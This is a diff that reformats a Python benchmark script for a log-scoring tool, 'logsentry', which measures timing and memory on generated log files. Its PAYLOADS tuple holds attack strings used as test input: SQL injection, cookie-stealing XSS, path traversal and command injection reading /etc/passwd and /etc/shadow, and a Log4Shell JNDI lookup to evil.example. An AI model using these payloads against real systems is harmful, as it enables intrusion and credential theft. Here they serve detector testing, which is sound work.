@@ -41,8 +41,13 @@ from logsentry.model_store.bundled import bundled_store  # noqa: E402
 from logsentry.stream.tools.replay import read_values  # noqa: E402
 
 LIMIT = 1_000_000
-PAYLOADS = ("' union select password from users--", "<script>alert(document.cookie)</script>", "../../../../etc/passwd",
-            ";cat /etc/shadow", "${jndi:ldap://evil.example/a}")  # fmt: skip
+PAYLOADS = (
+    "' union select password from users--",
+    "<script>alert(document.cookie)</script>",
+    "../../../../etc/passwd",
+    ";cat /etc/shadow",
+    "${jndi:ldap://evil.example/a}",
+)
 
 
 def _words(r: random.Random, n: int) -> str:
@@ -111,8 +116,12 @@ def _score(path: Path, timeout_s: float) -> dict[str, float]:
     """A fresh ``logsentry score`` on ``path``: seconds, and the child's peak RSS from the kernel;
     killed past ``timeout_s`` (then ``timed_out`` and the peak so far)."""
     started = time.perf_counter()
-    proc = subprocess.Popen([sys.executable, "-m", "logsentry", "score", "--store", str(bundled_store().root),
-                             str(path)], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, cwd=ROOT)  # fmt: skip
+    proc = subprocess.Popen(
+        [sys.executable, "-m", "logsentry", "score", "--store", str(bundled_store().root), str(path)],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+        cwd=ROOT,
+    )
     timed_out = False
     while True:
         pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
@@ -208,22 +217,29 @@ def main() -> int:
 
 def table(results: dict[str, Any]) -> list[str]:
     score = results["score"]
-    lines = [f"machine: {results['machine']}", "",
-             "| `logsentry score` on | MB | peak RSS MiB | seconds | time per byte ÷ ordinary |",
-             "|---|---|---|---|---|"]  # fmt: skip
+    lines = [
+        f"machine: {results['machine']}",
+        "",
+        "| `logsentry score` on | MB | peak RSS MiB | seconds | time per byte ÷ ordinary |",
+        "|---|---|---|---|---|",
+    ]
     for name, r in score.items():
         ratio = r.get("time_per_byte_vs_ordinary", 1.0)
         killed = " (killed: over the time limit)" if r.get("timed_out") else ""
-        lines.append(f"| {name} ({r['messages']:,} messages) | {r['bytes'] / 1e6:,.0f} | {r['peak_rss_mib']:.0f} | "
-                     f"{r['seconds']:.1f}{killed} | {ratio:.2f} |")  # fmt: skip
+        lines.append(
+            f"| {name} ({r['messages']:,} messages) | {r['bytes'] / 1e6:,.0f} | {r['peak_rss_mib']:.0f} | "
+            f"{r['seconds']:.1f}{killed} | {ratio:.2f} |"
+        )
     if "stream" not in results:
         return lines
     s = results["stream"]
     lines += ["", "| the stream draining | messages | MB/s | events/s | peak RSS MiB |", "|---|---|---|---|---|"]
     for topic in ("ordinary", "flood"):
         r = s[topic]
-        lines.append(f"| {topic} | {r['messages']:,} | {r['bytes_per_s'] / 1e6:.2f} | {r['events_per_s']:,.0f} | "
-                     f"{r['peak_rss_mib']:.0f} |")  # fmt: skip
+        lines.append(
+            f"| {topic} | {r['messages']:,} | {r['bytes_per_s'] / 1e6:.2f} | {r['events_per_s']:,.0f} | "
+            f"{r['peak_rss_mib']:.0f} |"
+        )
     lines.append(f"\nflood bytes/s ÷ ordinary: {s['flood_bytes_per_s_vs_ordinary']:.2f}")
     return lines
 
